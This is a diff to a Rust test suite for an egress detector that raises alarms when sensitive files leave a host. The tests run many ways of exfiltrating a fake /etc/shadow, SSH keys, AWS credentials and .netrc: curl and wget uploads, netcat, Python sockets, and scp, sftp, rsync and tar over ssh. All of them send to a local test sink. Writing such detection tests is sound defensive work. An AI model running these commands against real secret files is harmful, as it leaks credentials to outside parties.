@@ -1,9 +1,11 @@
 //! A sensitive file is read and leaves (issue 4, items 1 and 2): by every way that people take, found with the right
 //! file, program, destination and confidence.
 
+use counterfoil_tests::daemon::Daemon;
 use counterfoil_tests::sink::Sink;
 use counterfoil_tests::sshd::Sshd;
-use counterfoil_tests::{Alarm, Observed, Run, Scratch, check, need, need_sshd, peers};
+use counterfoil_tests::{Alarm, Observed, Run, Scratch, check, need, need_sshd, peers, wait};
+use std::time::Duration;
 
 /// As /etc/shadow looks on a small host.
 const SHADOW: &str = "root:$6$Vq0bnmQx1c7aK2yZ$0p9Jt1mNf3sXWq8dEoLhU5rGzKcYv7b2TnAi4Hs6QwMxRjPkZ1eDfVgBhNyCuIo:19700:0:99999:7:::\n\
@@ -69,23 +71,18 @@ fn chain(alarm: &Alarm) -> Vec<String> {
 #[test]
 fn curl() {
     need!("curl");
-    for way in
-        ["-T secret/shadow", "--data-binary @secret/shadow", "-d @secret/shadow", "-F f=@secret/shadow"]
-    {
+    for way in ["-T secret/shadow", "--data-binary @secret/shadow", "-F f=@secret/shadow"] {
         let run = leaking(&format!("curl -sS {way} http://127.0.0.1:$P/up >/dev/null"));
-        let alarm = left(&run, "curl", "correlated");
-        assert_eq!(chain(&alarm), ["curl"]);
+        assert_eq!(chain(&left(&run, "curl", "proven")), ["curl"]);
     }
+    // Without its line ends, as curl sends it.
+    left(&leaking("curl -sS -d @secret/shadow http://127.0.0.1:$P/up >/dev/null"), "curl", "proven");
 }
 
 #[test]
 fn wget() {
     need!("wget");
-    left(
-        &leaking("wget -q -O /dev/null --post-file=secret/shadow http://127.0.0.1:$P/"),
-        "wget",
-        "correlated",
-    );
+    left(&leaking("wget -q -O /dev/null --post-file=secret/shadow http://127.0.0.1:$P/"), "wget", "proven");
 }
 
 #[test]
@@ -94,7 +91,8 @@ fn netcat() {
     left(&leaking("nc -N 127.0.0.1 $P <secret/shadow"), "nc", "proven");
     let run = leaking("cat secret/shadow | nc -N 127.0.0.1 $P");
     let alarm = left(&run, "nc", "proven");
-    assert_eq!(alarm.0["evidence"]["spans"][0]["length"], SHADOW.len());
+    let seen = alarm.0["evidence"]["spans"][0]["length"].as_u64().unwrap_or(0) as usize;
+    check!(run, (SHADOW.len() - 64..=SHADOW.len()).contains(&seen), "{seen} bytes of it");
 }
 
 #[test]
@@ -118,7 +116,6 @@ fn bash_dev_tcp() {
 
 #[test]
 fn python() {
-    let python = peers::PYTHON;
     need!("/usr/bin/python3");
     for code in [
         "import urllib.request as u; u.urlopen(\"http://127.0.0.1:$P/\", open(\"secret/shadow\",\"rb\").read())",
@@ -127,7 +124,7 @@ fn python() {
         // It forks between reading and sending.
         "import socket,os; d=open(\"secret/shadow\",\"rb\").read(); p=os.fork(); s=p or socket.create_connection((\"127.0.0.1\",$P)); p or s.sendall(b\"x\"+d); p and os.wait()",
     ] {
-        left(&leaking(&format!("{python} -c \"{}\"", code.replace('"', "\\\""))), "python3", "correlated");
+        left(&leaking(&in_python(code)), "python3", "proven");
     }
 }
 
@@ -154,16 +151,16 @@ fn through_files() {
     let run = leaking(
         "split -b 60 secret/shadow piece; for p in piece*; do curl -sS -T $p http://127.0.0.1:$P/ >/dev/null; done",
     );
-    left(&run, "curl", "correlated");
+    left(&run, "curl", "proven");
 }
 
 #[test]
 fn other_names_of_it() {
     need!("curl");
     let run = leaking("ln secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null");
-    left(&run, "curl", "correlated");
+    left(&run, "curl", "proven");
     let run = leaking("ln -s secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null");
-    left(&run, "curl", "correlated");
+    left(&run, "curl", "proven");
 }
 
 #[test]
@@ -189,12 +186,169 @@ fn over_ssh() {
         let script = Sshd::new(&scratch).around(commands);
         with_secret(scratch, &script).limit(120).go().well()
     };
-    left(&to("scp secret/shadow far:$here/got"), "ssh", "correlated");
-    left(&to("printf 'put secret/shadow got\\n' | sftp -q -b - far:$here >/dev/null"), "ssh", "correlated");
+    left(&to("scp secret/shadow far:$here/got"), "ssh", "proven");
+    left(&to("printf 'put secret/shadow got\\n' | sftp -q -b - far:$here >/dev/null"), "ssh", "proven");
     left(&to("ssh far 'cat >got' <secret/shadow"), "ssh", "proven");
-    left(&to("tar c secret | ssh far 'cat >got'"), "ssh", "correlated");
+    left(&to("tar c secret | ssh far 'cat >got'"), "ssh", "proven");
+    left(&to("tar cz secret | ssh far 'cat >got'"), "ssh", "correlated");
     if peers::find("rsync").is_some() {
-        left(&to("rsync -a secret/shadow far:$here/got"), "ssh", "correlated");
+        left(&to("rsync -a secret/shadow far:$here/got"), "ssh", "proven");
+    }
+}
+
+/// A program in Python, as the words of a shell.
+fn in_python(code: &str) -> String {
+    format!("{} -c \"{}\"", peers::PYTHON, code.replace('"', "\\\""))
+}
+
+#[test]
+fn behind_much_else_on_the_same_connection() {
+    need!("/usr/bin/python3");
+    let run = leaking(&in_python(
+        "import socket; s=socket.create_connection((\"127.0.0.1\",$P)); s.sendall(bytes(range(256))*512); s.sendall(open(\"secret/shadow\",\"rb\").read())",
+    ));
+    left(&run, "python3", "proven");
+}
+
+/// Served to who asks for it: only the content tells.
+#[test]
+fn served_over_http() {
+    need!("/usr/bin/python3", "curl");
+    let port = peers::free_port();
+    let listening = counterfoil_tests::observed::listening(port);
+    let commands = format!(
+        "{} -m http.server --bind 127.0.0.1 {port} >server.log 2>&1 & server=$!\n{listening}\n\
+         curl -sS http://127.0.0.1:{port}/FILE >got\nkill $server",
+        peers::PYTHON
+    );
+    let serve = |file: &str| with_secret(Scratch::new(), &commands.replace("FILE", file)).limit(180).go();
+    left(&serve("secret/shadow"), "python3", "proven");
+}
+
+/// As root there is more than one name that is no link.
+#[test]
+fn bound_elsewhere() {
+    need!("unshare", "mount", "curl");
+    if !peers::root() {
+        counterfoil_tests::skip!("a bind mount needs root");
+    }
+    let commands = "unshare -m sh -euc 'touch other; mount --bind secret/shadow other; curl -sS -T other http://127.0.0.1:$P/ >/dev/null'";
+    left(&leaking(commands), "curl", "proven");
+}
+
+/// A program that calls itself as one does that may read it.
+#[test]
+fn a_trusted_name_elsewhere() {
+    need!("curl");
+    let sink = Sink::start();
+    let scratch = Scratch::new();
+    let here = scratch.path().canonicalize().expect("scratch").display().to_string();
+    scratch.write("secret/shadow", SHADOW);
+    let config = format!(
+        "[egress]\nknown_benign_processes = [\"/usr/bin/curl\"]\n[[egress.sensitive]]\npath = \"{here}/secret/*\"\nlabel = \"hashes\"\n"
+    );
+    let config = scratch.write("egress.toml", config).display().to_string();
+    let session = |commands: &str| {
+        let mut session = Observed::script(commands).option("--config").option(&config);
+        session = session.env("P", sink.port().to_string()).env("HERE", &here);
+        session.go().well()
+    };
+    // It reads it for its work, and sends something else.
+    let work = "cd $HERE; PROGRAM -sS -K secret/shadow http://127.0.0.1:$P/ >/dev/null 2>&1 || true";
+    let quiet = session(&work.replace("PROGRAM", "/usr/bin/curl"));
+    check!(quiet, leaks(&quiet).is_empty(), "{:#?}", leaks(&quiet));
+    let loud = session(&format!("cp /usr/bin/curl $HERE/curl\n{}", work.replace("PROGRAM", "$HERE/curl")));
+    check!(loud, leaks(&loud).iter().any(|a| exe(a) == "curl"), "nothing about another curl");
+}
+
+/// The host's daemon doesn't look at everything that runs; who opens a sensitive file is looked at from then on.
+#[test]
+fn by_a_program_that_is_not_watched() {
+    need!("/usr/bin/python3");
+    let scratch = Scratch::new();
+    let here = scratch.path().canonicalize().expect("scratch").display().to_string();
+    let secret = scratch.write("secret/shadow", SHADOW).display().to_string();
+    let daemon = Daemon::start(&format!(
+        "[egress]\n[[egress.sensitive]]\npath = \"{here}/secret/*\"\nlabel = \"hashes\"\n"
+    ));
+    let sink = Sink::start();
+    let code = format!(
+        "import socket; s=socket.create_connection(('127.0.0.1',{})); s.sendall(b'hello'); s.sendall(b'x'+open('{secret}','rb').read())",
+        sink.port()
+    );
+    daemon.observing(&[peers::PYTHON, "-c", &code]).go().well();
+    let found = wait::until(Duration::from_secs(20), daemon.shown("an alarm"), || {
+        daemon
+            .report()
+            .alarms()
+            .into_iter()
+            .find(|a| a.rule() == "sensitive-egress" && a.0["confidence"] == "proven")
+    });
+    assert_eq!(found.0["file"]["path"], secret.as_str());
+    assert!(exe(&found).starts_with("python3"), "{}", found.0);
+}
+
+/// People at work: each of these programs reads what is its own, and connects.
+#[test]
+fn ordinary_work() {
+    need!("curl", "ssh-keygen");
+    need_sshd!();
+    let scratch = Scratch::new();
+    let sshd = Sshd::new(&scratch);
+    let here = scratch.path().canonicalize().expect("scratch");
+    for (name, text) in [
+        ("home/.netrc", "machine 127.0.0.1 login ann password a-long-and-secret-password-of-ann\n"),
+        ("home/.config/file", "x\n"),
+    ] {
+        scratch.write(name, text);
+    }
+    std::fs::create_dir_all(here.join("home/.ssh")).expect("folder");
+    std::fs::copy(here.join("user_key"), here.join("home/.ssh/id_ed25519")).expect("key");
+    peers::prepare(&scratch, &["chmod", "600", "home/.ssh/id_ed25519", "home/.netrc"]);
+    let sink = Sink::start();
+    let mut work = "curl -sSn http://127.0.0.1:$P/ >/dev/null\n\
+        ssh -i home/.ssh/id_ed25519 far true\n\
+        echo hello >file; scp -i home/.ssh/id_ed25519 file far:$here/got\n"
+        .to_owned();
+    if peers::find("git").is_some() {
+        work += "export GIT_SSH_COMMAND=\"ssh -F $here/ssh_config -i $here/home/.ssh/id_ed25519\"\n\
+            git init -q one; git -C one -c user.name=a -c user.email=a@b commit -q --allow-empty -m x\n\
+            git clone -q far:$here/one two\n";
+    }
+    if peers::root() {
+        // What they start connects, and has nothing of what they read.
+        work += "su -c \"curl -sS http://127.0.0.1:$P/ >/dev/null\" root\npasswd -S root >/dev/null; chage -l root >/dev/null\n\
+            curl -sS http://127.0.0.1:$P/ >/dev/null\n";
+    }
+    let mut session = Observed::script(&sshd.around(&work)).env("HOME", here.join("home")).limit(240);
+    session = session.env("P", sink.port().to_string());
+    session.scratch = scratch;
+    let run = session.go().well();
+    check!(run, leaks(&run).is_empty(), "{:#?}", leaks(&run));
+}
+
+/// The same files, by somebody whose work it is not.
+#[test]
+fn the_built_in_files_in_a_private_home() {
+    need!("curl");
+    for (name, label) in [
+        (".ssh/id_rsa", "SSH private key"),
+        (".aws/credentials", "AWS credentials"),
+        (".netrc", "netrc passwords"),
+        (".kube/config", "Kubernetes credentials"),
+    ] {
+        let scratch = Scratch::new();
+        let here = scratch.path().canonicalize().expect("scratch");
+        scratch.write(&format!("home/{name}"), SHADOW);
+        let sink = Sink::start();
+        let command = format!("curl -sS -T home/{name} http://127.0.0.1:$P/ >/dev/null");
+        let mut session = Observed::script(&command).env("HOME", here.join("home")).limit(180);
+        session = session.env("P", sink.port().to_string());
+        session.scratch = scratch;
+        let run = session.go().well();
+        let found = leaks(&run);
+        let alarm = found.last().filter(|a| a.0["confidence"] == "proven" && a.0["file"]["label"] == label);
+        check!(run, alarm.is_some(), "{name}: {found:#?}");
     }
 }
 
